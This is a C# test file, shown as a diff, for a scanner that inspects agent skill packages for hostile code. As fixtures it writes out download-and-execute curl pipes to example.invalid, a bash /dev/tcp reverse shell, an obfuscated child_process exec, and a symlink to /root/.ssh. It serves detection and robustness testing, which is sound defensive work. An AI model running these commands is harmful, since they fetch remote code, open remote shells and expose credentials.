@@ -1,0 +1,180 @@
+using System.Text;
+
+namespace SecureStack.Scanner.Tests.Skills;
+
+/// <summary>Hostile shapes of input: each produces a report (no crash, no hang) and findings where they belong.</summary>
+public sealed class RobustnessTests : IClassFixture<ScannerFixture>
+{
+    private const string Frontmatter = "---\nname: robust\ndescription: test\n---\n\nRuns the scripts.\n";
+    private readonly SkillScanner _scanner;
+
+    public RobustnessTests(ScannerFixture fixture)
+    {
+        _scanner = fixture.Scanner;
+    }
+
+    [Fact]
+    public void Scan_TenMegabyteMinifiedFile_IsParsedAndItsEvalFound()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        var builder = new StringBuilder(10 * 1024 * 1024 + 100);
+        var i = 0;
+        while (builder.Length < 10 * 1024 * 1024)
+        {
+            builder.Append("var a").Append(i).Append("=function(b){return b*").Append(i++).Append("+[1,2,3].length};");
+        }
+        builder.Append("eval(a1(2));");
+        dir.Write("dist/app.min.js", builder.ToString());
+        // The default 10 s parse limit is wall-clock; a loaded CI machine gets more room, the bound stays finite.
+        using var scanner = SkillScanner.Create(new ScannerOptions { RulesPath = TestPaths.Rules, ParseTimeout = TimeSpan.FromMinutes(3) });
+
+        var report = scanner.Scan(dir.Path);
+
+        Assert.True(new FileInfo(Path.Combine(dir.Path, "dist/app.min.js")).Length >= 10 * 1024 * 1024);
+        var eval = Assert.Single(report.Findings, f => f.RuleId == "SS-JS-EVAL");
+        Assert.Equal(1, eval.Line);
+        Assert.True(eval.Column > 10_000_000);
+    }
+
+    [Theory]
+    [InlineData("deep.js", "[", "]", "\neval(x);\n", "SS-JS-EVAL")]
+    [InlineData("deep.py", "(", ")", "\nexec(x)\n", "SS-PY-EXEC")]
+    [InlineData("deep.sh", "$(echo ", ")", "\ncurl -s https://example.invalid | sh\n", "SS-DOWNLOAD-EXEC-PIPE")]
+    public void Scan_TenThousandDeepNesting_StillFindsTheCodeAfterIt(string file, string open, string close, string tail, string rule)
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        var depth = file.EndsWith(".sh", StringComparison.Ordinal) ? 2_000 : 10_000;
+        dir.Write(file, "x = " + string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth)) + tail);
+
+        var report = _scanner.Scan(dir.Path);
+
+        Assert.Contains(report.Findings, f => f.RuleId == rule && f.File == file);
+    }
+
+    [Fact]
+    public void Scan_BinaryAndExecutableFiles_AreFindingsNotCrashes()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        var random = new byte[64 * 1024];
+        new Random(42).NextBytes(random);
+        random[10] = 0;
+        dir.WriteBytes("data.bin", random);
+        dir.WriteBytes("bin/tool", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[100]]);
+        dir.WriteBytes("logo.png", [0x89, (byte)'P', (byte)'N', (byte)'G', 0, 0, 0, 0]);
+
+        var report = _scanner.Scan(dir.Path);
+
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-BINARY-FILE" && f.File == "data.bin");
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-BINARY-EXECUTABLE" && f.File == "bin/tool" && f.Severity == Severity.High);
+        Assert.DoesNotContain(report.Findings, f => f.File == "logo.png");
+    }
+
+    [Fact]
+    public void Scan_InvalidUtf8_StillScansTheText()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        var bytes = new List<byte>("#!/bin/sh\n"u8.ToArray());
+        bytes.AddRange([0xC3, 0x28, 0xFF, 0xFE, (byte)'\n']);
+        bytes.AddRange("curl -fsSL https://example.invalid/x | bash\n"u8.ToArray());
+        dir.WriteBytes("install.sh", [.. bytes]);
+
+        var report = _scanner.Scan(dir.Path);
+
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-DOWNLOAD-EXEC-PIPE" && f.File == "install.sh" && f.Line == 3);
+    }
+
+    [Fact]
+    public void Scan_SymlinkLoops_AreRecordedNeverFollowed()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        Directory.CreateDirectory(Path.Combine(dir.Path, "sub"));
+        File.CreateSymbolicLink(Path.Combine(dir.Path, "sub", "loop"), "..");
+        File.CreateSymbolicLink(Path.Combine(dir.Path, "a"), "b");
+        File.CreateSymbolicLink(Path.Combine(dir.Path, "b"), "a");
+        File.CreateSymbolicLink(Path.Combine(dir.Path, "secrets"), "/root/.ssh");
+
+        var report = _scanner.Scan(dir.Path);
+
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-SYMLINK" && f.File == "sub/loop");
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-SYMLINK" && f.File == "a");
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-SYMLINK-ESCAPE" && f.File == "secrets" && f.Severity == Severity.High);
+    }
+
+    [Fact]
+    public void Scan_FiveThousandFiles_FindsTheOneBadFile()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        for (var i = 0; i < 5_000; i++)
+        {
+            dir.Write($"lib/m{i / 100}/f{i}.js", $"export const v{i} = {i};\n");
+        }
+        dir.Write("lib/m49/evil.js", "require('child_' + 'process').exec('id');\n");
+
+        var report = _scanner.Scan(dir.Path);
+
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-OBFUSCATION" && f.File == "lib/m49/evil.js");
+        Assert.DoesNotContain(report.Findings, f => f.RuleId == "SS-SCAN-INCOMPLETE");
+    }
+
+    [Fact]
+    public void Scan_MoreFilesThanTheLimit_FailsClosedWithAHighFinding()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        for (var i = 0; i < 30; i++)
+        {
+            dir.Write($"f{i:D2}.txt", "fine\n");
+        }
+        using var scanner = SkillScanner.Create(new ScannerOptions { RulesPath = TestPaths.Rules, MaxFiles = 10 });
+
+        var report = scanner.Scan(dir.Path);
+
+        var incomplete = Assert.Single(report.Findings, f => f.RuleId == "SS-SCAN-INCOMPLETE");
+        Assert.Equal(Severity.High, incomplete.Severity);
+    }
+
+    [Fact]
+    public void Scan_FileOverTheSizeLimit_IsNotApproved()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        dir.Write("big.js", new string('x', 4096));
+        using var scanner = SkillScanner.Create(new ScannerOptions { RulesPath = TestPaths.Rules, MaxFileBytes = 1024 });
+
+        var report = scanner.Scan(dir.Path);
+
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-SCAN-INCOMPLETE" && f.File == "big.js" && f.Severity == Severity.High);
+    }
+
+    [Fact]
+    public void Scan_ScriptThatDoesNotParse_IsAHighFinding()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        dir.Write("broken.py", "def f(:\n    return ((\n");
+
+        var report = _scanner.Scan(dir.Path);
+
+        var finding = Assert.Single(report.Findings, f => f.RuleId == "SS-PARSE-ERROR");
+        Assert.Equal("broken.py", finding.File);
+        Assert.Equal(Severity.High, finding.Severity);
+    }
+
+    [Fact]
+    public void Scan_SingleFile_IsScannedAsASkillOfOneFile()
+    {
+        using var dir = new TempDirectory();
+        var file = dir.Write("payload.sh", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n");
+
+        var report = _scanner.Scan(file);
+
+        Assert.Equal(SkillScanner.ComputeChecksum(file), report.Checksum);
+        Assert.Contains(report.Findings, f => f.RuleId == "SS-REVERSE-SHELL" && f.File == "payload.sh" && f.Line == 2);
+    }
+}
